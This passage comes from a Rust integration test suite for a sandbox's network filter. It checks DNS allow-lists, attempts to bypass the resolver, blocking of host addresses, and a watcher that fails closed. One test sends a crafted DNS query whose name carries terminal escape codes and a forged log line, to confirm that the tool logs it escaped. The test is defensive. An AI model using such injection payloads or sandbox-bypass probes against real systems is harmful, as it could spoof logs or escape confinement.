        "cat /etc/resolv.conf && {} && {} && {}",
        py(RESOLVE, &["svc.lazaret.test", "other.lazaret.test"]),
        py(DIRECT_DNS, &["10.99.5.53", "bypass.lazaret.test"]),
        py(CONNECT, &["svc.lazaret.test:8080", "10.99.5.53:8080"]),
    );
    let out = ws.run_sh_in(&net, &script);
    let stdout = text(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}\nstderr: {}",
        text(&out.stderr)
    );
    assert!(stdout.contains("nameserver 10.0.2.3"), "{stdout}");
    assert!(!stdout.contains("nameserver 10.99.5.53"), "{stdout}");
    assert!(
        stdout.contains("svc.lazaret.test ['198.51.100.1']"),
        "{stdout}"
    );
    assert!(stdout.contains("other.lazaret.test ERR"), "{stdout}");
    assert!(
        stdout.contains("DIRECT ERR"),
        "the resolver answered the sandbox: {stdout}"
    );
    let r = connects(&out);
    assert_eq!(r["svc.lazaret.test:8080"], "OK SERVED-OK 198.51.100.1");
    refused(&r, "10.99.5.53:8080");
    let asked = net.queries();
    assert!(asked.iter().any(|q| q == "svc.lazaret.test"), "{asked:?}");
    assert!(
        !asked
            .iter()
            .any(|q| q == "bypass.lazaret.test" || q == "other.lazaret.test"),
        "{asked:?}"
    );
    // The probe asked the configured resolver through the filter.
    let v = net_show(&ws, &net);
    let checks = v["evidence"]["probe"]["probe"]["checks"].to_string();
    assert!(
        checks.contains("filtering resolver answers an allowed name"),
        "{checks}"
    );
    assert_domain_gone(&ws.domain_id("default"));
}

/// Inside: a lookup whose name carries a terminal escape and a line break,
/// sent raw to the sandbox's resolver (the filter refuses and logs it).
const HOSTILE_NAME: &str = r#"
import socket, struct
labels = [b"\x1b[2J\x1b]0;pwned\x07", b"x\nFAKE-LINE routed 10.0.0.1", b"attacker", b"example"]
q = struct.pack("!HHHHHH", 0x4343, 0x0100, 1, 0, 0, 0)
q += b"".join(bytes([len(l)]) + l for l in labels) + b"\0" + struct.pack("!HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
s.sendto(q, ("10.0.2.3", 53))
a = s.recv(512)
print("RCODE", a[3] & 15)
"#;

/// The names the sandbox looks up reach the developer's terminal through
/// `lazaret net log`: escaped, never as control sequences or extra lines.
#[test]
fn hostile_lookup_names_are_shown_escaped() {
    let env = require_env!();
    let Some(net) = test_net() else { return };
    let ws = env.workspace("net-hosts-hostile");
    write_network(
        &ws,
        "default = \"deny\"\nallow_hosts = [\"svc.lazaret.test\"]",
    );
    let out = ws.run_sh_in(&net, &py(HOSTILE_NAME, &[]));
    let stdout = text(&out.stdout);
    assert!(out.status.success(), "{stdout}\n{}", text(&out.stderr));
    // NXDOMAIN, from the filter: it never went upstream.
    assert!(stdout.contains("RCODE 3"), "{stdout}");
    assert!(
        !net.queries().iter().any(|q| q.contains("attacker")),
        "{:?}",
        net.queries()
    );
    let human = ws.lazaret_in(&net, &["net", "log"]).output().unwrap();
    assert!(human.status.success());
    let shown = text(&human.stdout);
    assert!(
        !human.stdout.iter().any(|b| *b == 0x1b || *b == 0x07),
        "a control byte reached the terminal: {shown:?}"
    );
    assert!(
        !shown.lines().any(|l| l.starts_with("FAKE-LINE")),
        "the name forged a line: {shown}"
    );
    assert!(shown.contains("attacker.example"), "{shown}");
    let json = ws
        .lazaret_in(&net, &["net", "log", "--json"])
        .output()
        .unwrap();
    let events: Vec<serde_json::Value> = serde_json::from_slice(&json.stdout).unwrap();
    assert!(
        events.iter().any(|e| e["event"] == "refused"
            && e["name"]
                .as_str()
                .is_some_and(|n| n.ends_with("attacker.example")
                    && !n.contains('\u{1b}')
                    && !n.contains('\n'))),
        "{events:?}"
    );
    assert_domain_gone(&ws.domain_id("default"));
}

/// The test host's own interface address, port 8080: the test host serves
/// there (see [`TestNet`]), as a developer's machine may on its LAN address.
fn host_service() -> String {
    format!("{}:8080", lazaret_tests::TEST_HOST_ADDRESS)
}

/// Inside: `BEFORE` (a shell command), then `PHASE1`, then waits for the
/// host to create `/workspace/.lazaret-go` (at most 120 s), then `AFTER`.
fn two_phases(before: &str, after: &str) -> String {
    format!(
        "{before}; echo PHASE1; n=0; while [ ! -e /workspace/.lazaret-go ] && [ $n -lt 600 ]; do sleep 0.2; n=$((n+1)); done; {after}"
    )
}

/// Runs `script` in a session; once it printed `PHASE1`, calls `between`
/// (the host-side action), then tells it to go on; returns all it printed.
fn with_host_action(
    ws: &Workspace,
    net: &TestNet,
    script: &str,
    between: impl FnOnce(),
) -> (String, std::process::ExitStatus) {
    use std::io::{BufRead, Read};
    let mut session = ws
        .lazaret_in(net, &["run", "--", "sh", "-c", script])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut out = std::io::BufReader::new(session.stdout.take().unwrap());
    let mut seen = String::new();
    loop {
        let mut l = String::new();
        if out.read_line(&mut l).unwrap() == 0 {
            break;
        }
        seen.push_str(&l);
        if l.trim() == "PHASE1" {
            between();
            std::fs::write(ws.path.join(".lazaret-go"), "go\n").unwrap();
            break;
        }
    }
    out.read_to_string(&mut seen).unwrap();
    let mut err = String::new();
    session
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut err)
        .unwrap();
    let status = session.wait().unwrap();
    assert!(seen.contains("PHASE1"), "stdout: {seen}\nstderr: {err}");
    (seen, status)
}

/// Waits (bounded) until `lazaret net show` lists `addr` among the
/// addresses the host gained and the watcher denied; whether it did.
fn watcher_denied(ws: &Workspace, net: &TestNet, addr: &str) -> bool {
    eventually(Duration::from_secs(30), || {
        net_show(ws, net)["host_denials"]
            .as_array()
            .is_some_and(|d| d.iter().any(|e| e["address"] == addr))
    })
}

fn results(stdout: &str) -> Vec<BTreeMap<String, String>> {
    stdout
        .lines()
        .filter(|l| l.starts_with('{'))
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

/// The sandbox's connections leave through slirp4netns A as the host's
/// own sockets: with the default profile, a service on the host's
/// interface address (public-looking here, so no built-in range covers
/// it), or on one the host gains while the Domain runs, must not be
/// reachable; `allow` naming the address exactly opens it.
#[test]
fn host_addresses_are_refused_unless_the_profile_allows_them() {
    let env = require_env!();
    let Some(net) = test_net() else { return };
    let ws = env.workspace("net-host-addr");
    let host = host_service();
    let added = "203.0.113.77";
    let added_service = format!("{added}:8080");
    let script = two_phases(
        &py(CONNECT, &[&host, PUBLIC]),
        &py(CONNECT, &[&added_service, PUBLIC]),
    );
    let (stdout, status) = with_host_action(&ws, &net, &script, || {
        net.add_host_address(added);
        // The watcher says when its denial is in; if it never does, the
        // connection below shows what that means.
        let _ = watcher_denied(&ws, &net, added);
    });
    assert!(status.success(), "{stdout}");
    let r = results(&stdout);
    assert_eq!(r.len(), 2, "{stdout}");
    refused(&r[0], &host);
    reachable(&r[0], PUBLIC);
    refused(&r[1], &added_service);
    reachable(&r[1], PUBLIC);
    assert_domain_gone(&ws.domain_id("default"));

    // What the developer sees: the host's address with its origin, and
    // the one it gained, from the generation that ran.
    let v = net_show(&ws, &net);
    let rules = v["policy"]["rules"].as_array().unwrap();
    assert!(
        rules.iter().any(|r| r["prefix"] == "203.0.113.1/32"
            && r["verdict"] == "deny"
            && r["origin"]["host"]["ifname"] == "lzh"),
        "{v}"
    );
    let human = text(
        &ws.lazaret_in(&net, &["net", "show"])
            .output()
            .unwrap()
            .stdout,
    );
    assert!(
        human.contains("203.0.113.1/32") && human.contains("host address (lzh)"),
        "{human}"
    );
    let log = std::fs::read_to_string(ws.domain_root("default").join("host-addresses.log"))
        .unwrap_or_default();
    assert!(log.contains(added), "{log}");

    // The explicit way to open one: `allow` naming it exactly.
    write_network(&ws, "allow = [\"203.0.113.1\"]");
    let out = ws.run_sh_in(&net, &py(CONNECT, &[&host, &added_service]));
    assert!(out.status.success(), "stderr: {}", text(&out.stderr));
    let r = connects(&out);
    reachable(&r, &host);
    // The one gained earlier is an address of the host at this start: in
    // the policy now, and still refused.
    refused(&r, &added_service);
    assert_domain_gone(&ws.domain_id("default"));
}

/// With `allow_hosts`, an allowed name may resolve to an address of the
/// host (one it had at the start or gains while the Domain runs) or to
/// the configured resolver's own address: the filter must route neither,
/// so the sandbox can reach no host service and cannot query the resolver
/// past the filter.
#[test]
fn allow_hosts_never_routes_a_host_or_resolver_address() {
    let env = require_env!();
    let Some(net) = test_net() else { return };
    let ws = env.workspace("net-hosts-host");
    write_network(
        &ws,
        "default = \"deny\"\ndns = [\"198.51.100.53\"]\nallow_hosts = [\"svc.lazaret.test\", \"hostaddr.lazaret.test\", \"resolver.lazaret.test\", \"added.lazaret.test\"]",
    );
    let added = "203.0.113.78";
    let before = format!(
        "{} && {} && {}",
        py(
            RESOLVE,
            &[
                "svc.lazaret.test",
                "hostaddr.lazaret.test",
                "resolver.lazaret.test"
            ]
        ),
        py(
            CONNECT,
            &[
                "svc.lazaret.test:8080",
                "hostaddr.lazaret.test:8080",
                "resolver.lazaret.test:8080",
            ]
        ),
        py(DIRECT_DNS, &["198.51.100.53", "bypass.lazaret.test"]),
    );
    let after = format!(
        "{} && {}",
        py(RESOLVE, &["added.lazaret.test"]),
        py(CONNECT, &["added.lazaret.test:8080"])
    );
    let (stdout, status) = with_host_action(&ws, &net, &two_phases(&before, &after), || {
        net.add_host_address(added);
        let _ = watcher_denied(&ws, &net, added);
    });
    assert!(status.success(), "{stdout}");
    // The answers reach the sandbox as they are; their addresses do not.
    for (name, addr) in [
        ("svc.lazaret.test", "198.51.100.1"),
        ("hostaddr.lazaret.test", "203.0.113.1"),
        ("resolver.lazaret.test", "198.51.100.53"),
        ("added.lazaret.test", added),
    ] {
        assert!(
            stdout.contains(&format!("{name} ['{addr}']")),
            "{name}: {stdout}"
        );
    }
    let r = results(&stdout);
    assert_eq!(r.len(), 2, "{stdout}");
    assert_eq!(r[0]["svc.lazaret.test:8080"], "OK SERVED-OK 198.51.100.1");
    refused(&r[0], "hostaddr.lazaret.test:8080");
    refused(&r[0], "resolver.lazaret.test:8080");
    refused(&r[1], "added.lazaret.test:8080");
    assert!(
        stdout.contains("DIRECT ERR"),
        "the resolver answered the sandbox: {stdout}"
    );
    assert!(
        !net.queries().iter().any(|q| q == "bypass.lazaret.test"),
        "{:?}",
        net.queries()
    );
    // Each refusal is in the filter's log, saying why.
    let log = ws
        .lazaret_in(&net, &["net", "log", "--json"])
        .output()
        .unwrap();
    let events: Vec<serde_json::Value> = serde_json::from_slice(&log.stdout).unwrap();
    for addr in ["203.0.113.1", "198.51.100.53", added] {
        assert!(
            events
                .iter()
                .any(|e| e["event"] == "address_refused" && e["address"] == addr),
            "{addr}: {events:?}"
        );
        assert!(
            !events
                .iter()
                .any(|e| e["event"] == "routed" && e["address"] == addr),
            "{addr} routed: {events:?}"
        );
    }
    assert_domain_gone(&ws.domain_id("default"));
}

/// The host-address watch runs confined (seccomp, no_new_privs,
/// CAP_NET_ADMIN only), and a Domain never runs on without it: killed
/// from the host, it takes the Domain down (fail closed), so an address
/// the host gains afterwards cannot be reached unwatched.
#[test]
fn the_host_address_watch_is_confined_and_the_domain_stops_without_it() {
    let env = require_env!();
    let Some(net) = test_net() else { return };
    let ws = env.workspace("net-host-watch");
    let id = ws.domain_id("default");
    let mut session = sleeping_session(&ws, &net);
    let watch = || {
        processes_mentioning(&id)
            .into_iter()
            .find(|(_, c)| c.contains("lazaret-netpolicy-watch"))
    };
    assert!(
        eventually(Duration::from_secs(60), || watch().is_some()
            && processes_mentioning(&id)
                .iter()
                .any(|(_, c)| c.contains("lazaret-exec-bridge"))),
        "no lazaret-netpolicy watch: {:#?}",
        processes_mentioning(&id)
    );
    let (pid, _) = watch().unwrap();
    assert_confined_net_admin(pid);
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(pid),
        nix::sys::signal::Signal::SIGKILL,
    )
    .unwrap();
    let ended = eventually(Duration::from_secs(60), || {
        matches!(session.try_wait(), Ok(Some(_)))
    });
    if !ended {
        let _ = session.kill();
    }
    let _ = session.wait();
    assert!(ended, "the session outlived the host-address watch");
    assert_domain_gone(&id);
    let helpers =
        std::fs::read_to_string(ws.domain_root("default").join("helpers.log")).unwrap_or_default();
    assert!(
        helpers.contains("the host-address watch (lazaret-netpolicy watch) exited"),
        "{helpers}"
    );
}
